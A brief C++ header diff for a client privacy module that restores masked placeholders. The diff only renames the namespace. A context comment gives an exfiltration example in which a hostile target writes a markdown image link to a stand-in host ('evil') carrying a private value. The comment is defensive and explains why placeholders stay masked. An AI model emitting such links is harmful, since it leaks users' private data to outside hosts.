@@ -8,7 +8,7 @@
 
 #include "client/privacy/request_mask.h"
 
-namespace edgedraft {
+namespace edgedraft::client {
 
 // A text with placeholders, restored for its reader. Placeholders stay where the reader's program
 // might send the value on by itself: a hostile target would write ![](https://evil/?[NAME_001]) or
@@ -134,4 +134,4 @@ std::string restored(std::string_view masked, const Placeholders& placeholders,
                      bool in_json = false);
 std::string restored(std::string_view masked, RestoredText start);
 
-}  // namespace edgedraft
+}  // namespace edgedraft::client
